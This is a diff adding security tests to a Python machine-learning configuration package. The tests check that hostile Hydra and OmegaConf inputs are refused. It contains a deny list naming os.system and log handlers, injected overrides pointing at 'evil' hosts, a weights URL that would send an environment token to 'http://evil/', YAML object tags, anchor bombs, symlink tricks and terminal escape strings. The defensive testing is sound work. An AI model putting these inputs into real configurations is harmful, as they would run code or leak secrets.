@@ -1,6 +1,7 @@
 """A configuration names parts of a training, and nothing else is ever called."""
 
 import ast
+import json
 import re
 import subprocess
 import sys
@@ -13,11 +14,12 @@ import pytest
 import torch
 from omegaconf import DictConfig, OmegaConf, open_dict
 
-from quartet import allow, build, storage
+from quartet import allow, build, secret, storage
 from quartet.after import evaluate
 from quartet.build.parts import make
 from quartet.check import Refusal
 from quartet.command import CONF
+from quartet.sweep.directory import with_sweep
 
 ROOT = CONF.parent
 
@@ -80,6 +82,9 @@ HOSTILE = [
         "quartet.build",
     ),
     *("hydra_plugins.quartet.GridSweeper", "hydra_plugins.quartet.GridSweeper.sweep"),
+    *("quartet.launch.cluster.Work", "quartet.launch.processes.Program", "quartet.sweep.jobs.Job"),
+    *("quartet.data.DataModule", "quartet.data.DataModule.load", "quartet.search.search.Search"),
+    *("quartet.data.torchvision._download", "quartet.data.loader.Batches"),
     *("logging.FileHandler", "quartet", "", ".", "os..system", "..os.system", "os.system "),
 ]
 
@@ -345,6 +350,11 @@ HYDRA = {
     ],
     "queue": ["+hydra.job_logging.handlers.a={class:logging.handlers.QueueHandler}"],
     "socket": ["+hydra.job_logging.handlers.a={class:logging.handlers.SocketHandler}"],
+    "file": ["hydra.job_logging.handlers.file.filename=canary"],
+    "another_file": ["+hydra.job_logging.handlers.a={class:logging.FileHandler,filename:canary}"],
+    "log_elsewhere": ["hydra.job.name=../canary"],
+    "record_elsewhere": ["hydra.output_subdir=../canary"],
+    "environment": ["+hydra.job.env_set.GIT_CONFIG_COUNT='1'"],
     "import": ["hydra.job_logging.handlers.console.stream=ext://os.system"],
 }
 
@@ -432,6 +442,10 @@ RECORDS = {
     "package": "# @package hydra.callbacks\na:\n  _target_: os.mkdir\n  path: canary\n",
     "search": "hydra:\n  searchpath: ['pkg://evil']\n",
     "environment": "hydra:\n  job:\n    env_set: {PATH: .}\n",
+    # Python ends a line by more than a line feed.
+    "separated": "# a\u2028# @package hydra\nverbose: true\n",
+    "fed": "# a\x0c # @package hydra\nverbose: true\n",
+    "repeated": "a: &a [1, 1]\nb: &b [*a, *a]\nc: [*b, *b]\n",
 }
 
 
@@ -445,6 +459,87 @@ def test_a_run_cannot_direct_hydra(script: str, name: str, tmp_path: Path) -> No
     assert done.returncode == 2
     assert done.stderr.startswith("Refused:\n  run/.hydra/config.yaml: ")
     assert [path.name for path in tmp_path.iterdir()] == ["run"]
+
+
+@pytest.mark.parametrize(
+    ("script", "key"),
+    [("evaluate.py", "run"), ("train.py", "resume"), ("train.py", "sweep.resume")],
+)
+@pytest.mark.parametrize("name", [".lock", "train.log", ".hydra/a", "checkpoints/.last.ckpt.part"])
+def test_nothing_is_written_through_a_link(
+    script: str, key: str, name: str, tmp_path: Path
+) -> None:
+    for folder in ("run/.hydra", "run/checkpoints"):
+        (tmp_path / folder).mkdir(parents=True)
+    (tmp_path / "run/.hydra/config.yaml").write_text("seed: 0\n")
+    (tmp_path / "mine").write_text("mine")
+    (tmp_path / "run" / name).symlink_to(tmp_path / "mine")
+    done = command(script, tmp_path, f"{key}=run")
+    assert done.returncode == 2
+    assert f"run/{name} is a link to {tmp_path}/mine; put the file itself there." in done.stderr
+    assert (tmp_path / "mine").read_text() == "mine"
+
+
+@pytest.mark.parametrize(
+    "override",
+    [
+        "+hydra.job.env_set.GIT_CONFIG_COUNT='1'",
+        "hydra.searchpath=[pkg://evil]",
+        "+hydra.launcher.setup=[touch canary]",
+        "hydra.launcher.address=ray://evil:1",
+        "model.weights='http://evil/${oc.env:MY_TOKEN}'",
+    ],
+)
+def test_the_record_of_a_sweep_directs_nothing_either(override: str, tmp_path: Path) -> None:
+    job = {"overrides": ["seed=1"], "conf": ""}
+    told = {"command": ["seed=1,2", override], "jobs": {"0": job}}
+    (tmp_path / "sweep.json").write_text(json.dumps(told))
+    with pytest.raises(SystemExit):
+        with_sweep([f"sweep.resume={tmp_path}"])
+    kept = with_sweep([f"sweep.resume={tmp_path}", override])
+    assert kept == ["-m", f"sweep.resume={tmp_path}".replace("sweep.", "hydra.sweeper."), override,
+                    "seed=1,2", f"hydra.sweep.dir='{tmp_path}'"]  # fmt: skip
+
+
+def test_a_value_that_is_no_text_or_number_is_refused(composed: DictConfig) -> None:
+    cfg = composed.copy()
+    with open_dict(cfg):
+        cfg.model = OmegaConf.create("{_target_: torch.nn.Linear, _args_: [!!python/object/apply:pathlib.PosixPath [a]]}")  # fmt: skip
+    with pytest.raises(
+        Refusal, match=r"model._args_.0=a: is a PosixPath; write a text or a number"
+    ):
+        build.rebuild(
+            cfg, dict.fromkeys(("task", "input_shape", "num_classes", "num_outputs")), CONF
+        )
+
+
+def test_an_address_with_a_secret_in_it_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("SERVICE", "https://a.example")
+    monkeypatch.setenv("ACCESS", "0123456789")
+    monkeypatch.setattr(sys, "argv", ["train.py", "resume=run", "c=again"])
+    cfg = OmegaConf.create(
+        {
+            "a": "${oc.env:SERVICE}",
+            "b": {"x": ["http://b.example/${oc.env:ACCESS}"]},
+            "c": "http://b.example/${oc.env:ACCESS}",
+            "d": "${oc.env:ACCESS}",
+        }
+    )
+    (fault,) = secret.sent(cfg)
+    assert fault.startswith("b.x.0=http://b.example/${oc.env:ACCESS}: sends a value of your env")
+
+
+def test_what_would_direct_a_terminal_is_written_out(composed: DictConfig, tmp_path: Path) -> None:
+    cfg = composed.copy()
+    with open_dict(cfg):
+        cfg.pop("hydra")
+        cfg.model._target_ = "os.\x1b]0;x\a\u202e"
+    (tmp_path / "run" / ".hydra").mkdir(parents=True)
+    OmegaConf.save(cfg, tmp_path / "run" / ".hydra" / "config.yaml")
+    storage.save({"state_dict": {}}, tmp_path / "run" / "checkpoints" / "best.ckpt")
+    done = command("evaluate.py", tmp_path, "run=run")
+    assert done.returncode == 2
+    assert "model._target_=os.\\x1b]0;x\\x07\\u202e: is none of the classes" in done.stderr
 
 
 def test_a_run_cannot_replace_the_options_of_hydra(tmp_path: Path) -> None:
